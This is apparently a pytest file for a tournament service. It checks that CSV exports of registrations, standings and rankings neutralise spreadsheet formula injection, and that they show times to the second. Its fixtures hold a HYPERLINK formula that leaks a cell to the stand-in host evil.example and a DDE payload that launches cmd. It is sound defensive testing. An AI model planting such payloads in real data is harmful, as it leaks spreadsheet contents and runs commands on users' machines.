"""Every CSV the service writes (standings, ranking, registrations) opens in a spreadsheet
without running what a player typed, and shows instants to the second (issue 19, items 2, 15).

A hostile registrant types a formula as a name and an e-mail starting with ``+``; each table's
CSV must hand the spreadsheet text (a leading ``'``, as OWASP recommends), while the JSON keeps
what was typed."""

from __future__ import annotations

import csv
import io
from typing import Any

from litestar.testing import TestClient

from service.clock import MovableClock
from tests.api.test_tournaments import CHECK_IN_OPENS, advance_to, person, schedule
from tests.conftest import DIRECTOR

Client = TestClient[Any]
FORMULA_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"Anna")'
PLUS_EMAIL = "+x@example.org"
AT_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def as_csv(client: Client, url: str, **headers: str) -> list[dict[str, str]]:
    response = client.get(url, headers={**headers, "Accept": "text/csv"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.text)))


def register(client: Client, tournament_id: str, body: dict[str, Any]) -> dict[str, Any]:
    response = client.post(
        f"/api/v1/tournaments/{tournament_id}/registrations", json=body, headers=DIRECTOR
    )
    assert response.status_code == 201, response.text
    answer: dict[str, Any] = response.json()
    return answer


def hostile_people() -> list[dict[str, Any]]:
    return [
        person(1, first_name=FORMULA_NAME, email=PLUS_EMAIL),
        person(2, first_name=AT_NAME, last_name="-Minus"),
    ]


def finished_tournament(client: Client, clock: MovableClock) -> tuple[str, str]:
    """A season's one-round tournament of the two hostile registrants, its match reported, so
    that standings and the season ranking list them. Returns the season's id and the
    tournament's."""
    season = client.post(
        "/api/v1/seasons",
        json={"name": "Saison 2026", "starts_on": "2026-03-01", "ends_on": "2027-02-28"},
        headers=DIRECTOR,
    )
    assert season.status_code == 201, season.text
    season_id: str = season.json()["id"]
    tournament_id = schedule(client, season_id=season_id, swiss_rounds=1)["id"]
    registrations = [register(client, tournament_id, body) for body in hostile_people()]
    advance_to(client, clock, CHECK_IN_OPENS)
    for registration in registrations:
        response = client.post(
            f"/api/v1/tournaments/{tournament_id}/registrations/"
            f"{registration['registration_id']}/check-in",
            json={"id_document_seen": True, "buy_in_paid_cents": 10000},
            headers=DIRECTOR,
        )
        assert response.status_code == 200, response.text
    started = client.post(f"/api/v1/tournaments/{tournament_id}/start", headers=DIRECTOR)
    assert started.status_code == 200, started.text
    [table] = started.json()["round"]["pairings"]
    result = {
        "match_id": table["match_id"],
        "winner": table["player_a"],
        "points_a": table["match_length"],
        "points_b": 0,
    }
    reported = client.post(
        f"/api/v1/tournaments/{tournament_id}/results", json=result, headers=DIRECTOR
    )
    assert reported.status_code == 201, reported.text
    return season_id, tournament_id


def test_the_registrations_csv_neutralises_formulas_in_names_and_emails(client: Client) -> None:
    tournament_id = schedule(client)["id"]
    for body in hostile_people():
        register(client, tournament_id, body)
    url = f"/api/v1/tournaments/{tournament_id}/registrations"

    rows = as_csv(client, url, **DIRECTOR)

    first, second = rows
    assert first["first_name"] == "'" + FORMULA_NAME
    assert first["display_name"] == "'" + FORMULA_NAME + " N."
    assert first["email"] == "'" + PLUS_EMAIL
    assert first["last_name"] == "Nachname1"  # harmless text is left alone
    assert (second["first_name"], second["last_name"]) == ("'" + AT_NAME, "'-Minus")
    assert first["age"] == "31"  # numbers stay numbers
    # the JSON keeps what was typed: only the spreadsheet's copy is defused
    as_json = client.get(url, headers=DIRECTOR).json()
    assert (as_json[0]["first_name"], as_json[0]["email"]) == (FORMULA_NAME, PLUS_EMAIL)


def test_the_registrations_csv_shows_instants_to_the_second(
    client: Client, clock: MovableClock
) -> None:
    tournament_id = schedule(client)["id"]
    # the fixture clock stands at 2026-03-01 09:00 UTC; events carry the microseconds
    moved = client.post("/api/v1/dev/clock/advance", json={"seconds": 0.123456}, headers=DIRECTOR)
    assert moved.status_code == 200, moved.text
    register(client, tournament_id, person(1))
    url = f"/api/v1/tournaments/{tournament_id}/registrations"

    [row] = as_csv(client, url, **DIRECTOR)

    assert row["registered_at"] == "2026-03-01T10:00:00+01:00"
    assert row["updated_at"] == "2026-03-01T10:00:00+01:00"
    assert row["checked_in_at"] == ""
    # the JSON API keeps its instants as they were (API.md: ISO 8601 with offset)
    [record] = client.get(url, headers=DIRECTOR).json()
    assert record["registered_at"] == "2026-03-01T10:00:00.123456+01:00"


def test_the_standings_csv_neutralises_formulas_in_display_names(
    client: Client, clock: MovableClock
) -> None:
    _, tournament_id = finished_tournament(client, clock)

    rows = as_csv(client, f"/api/v1/tournaments/{tournament_id}/standings")

    assert sorted(row["display_name"] for row in rows) == [
        "'" + FORMULA_NAME + " N.",
        "'" + AT_NAME + " -.",
    ]
    assert sorted(row["wins"] for row in rows) == ["0", "1"]
    assert sorted(row["withdrawn"] for row in rows) == ["false", "false"]


def test_the_ranking_csv_neutralises_formulas_in_display_names(
    client: Client, clock: MovableClock
) -> None:
    season_id, _ = finished_tournament(client, clock)

    rows = as_csv(client, f"/api/v1/seasons/{season_id}/ranking")

    assert sorted(row["display_name"] for row in rows) == [
        "'" + FORMULA_NAME + " N.",
        "'" + AT_NAME + " -.",
    ]
    assert all(row["points"].isdigit() for row in rows)  # numbers stay numbers
